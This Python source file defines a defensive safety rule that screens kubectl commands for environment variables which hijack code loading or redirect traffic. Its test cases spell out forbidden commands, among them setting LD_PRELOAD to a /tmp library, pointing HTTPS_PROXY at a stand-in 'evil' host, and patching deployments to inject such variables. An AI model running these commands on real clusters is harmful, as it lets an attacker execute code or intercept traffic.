"""Protects what runs and where traffic goes from variables that change either."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from knowledge.vocabulary import Ruling, Text
from tools.safety.contract import SafetyRule, Said, Subject, said
from tools.safety.policy import Policy, matches


def _names(value: Any) -> Iterable[str]:
    for entry in value if isinstance(value, list) else [value]:
        if isinstance(entry, list):
            yield from _names(entry)
        elif isinstance(entry, dict) and isinstance(entry.get("name"), str):
            yield entry["name"]


_ORDINARY_WORDS = frozenset({"ENV", "PATH"})


def _is_forbidden(name: str, policy: Policy) -> bool:
    """Also in other letters, which some programs read too; short words that applications use (``env``) only as written."""
    shouted = name.upper()
    return matches(name, policy.forbidden_environment) or (
        shouted not in _ORDINARY_WORDS and matches(shouted, policy.forbidden_environment)
    )


def _judge(subject: Subject, policy: Policy) -> Iterable[Said]:
    for writes in subject.writes:
        for path, value in writes.walk():
            names: list[str] = []
            if path[-1] == "env":
                names = list(_names(value))
            elif path[-2:] == ("env", "name") and isinstance(value, str):
                names = [value]
            elif path[-1] == "envFrom":
                yield said(Ruling.TWO, "takes variables from a whole object", "从整个对象引入环境变量")
            bad = sorted({name for name in names if _is_forbidden(name, policy)})
            if bad:
                yield said(
                    Ruling.FORBIDDEN,
                    f"{', '.join(bad)} changes which code runs or where traffic goes",
                    f"{', '.join(bad)} 会改变运行的代码或流量去向",
                )


RULE = SafetyRule(
    "env_injection", Text(en="what runs and where traffic goes", zh="运行内容与流量去向"), _judge,
    ("kubectl set env deploy/web LOG_LEVEL=debug", "kubectl set env deploy/web HTTPS_PROXY-", "kubectl set env deploy/vllm VLLM_USE_V1=0"),
    (
        ("kubectl set env deploy/web LD_PRELOAD=/tmp/x.so", Ruling.FORBIDDEN),
        ("kubectl set env deploy/web A=b HTTPS_PROXY=http://evil", Ruling.FORBIDDEN),
        ("kubectl set env deploy/web -e https_proxy=http://evil", Ruling.FORBIDDEN),
        ("kubectl set env deploy/web PYTHONPATH=/tmp", Ruling.FORBIDDEN),
        ("kubectl set env deploy/web Https_Proxy=http://evil", Ruling.FORBIDDEN),
        ("kubectl set env deploy/web PIP_CONFIG_FILE=/tmp/pip.conf", Ruling.FORBIDDEN),
        ("kubectl set env deploy/web --from=configmap/settings --prefix=LD_", Ruling.FORBIDDEN),
        ("kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"env\":[{\"name\":\"LD_PRELOAD\",\"value\":\"x\"}]}]}}}}'", Ruling.FORBIDDEN),
        ("kubectl patch deploy web --type=json -p '[{\"op\":\"add\",\"path\":\"/spec/template/spec/containers/0/env/-\",\"value\":{\"name\":\"HTTPS_PROXY\",\"value\":\"x\"}}]'", Ruling.FORBIDDEN),
    ),
)  # fmt: skip
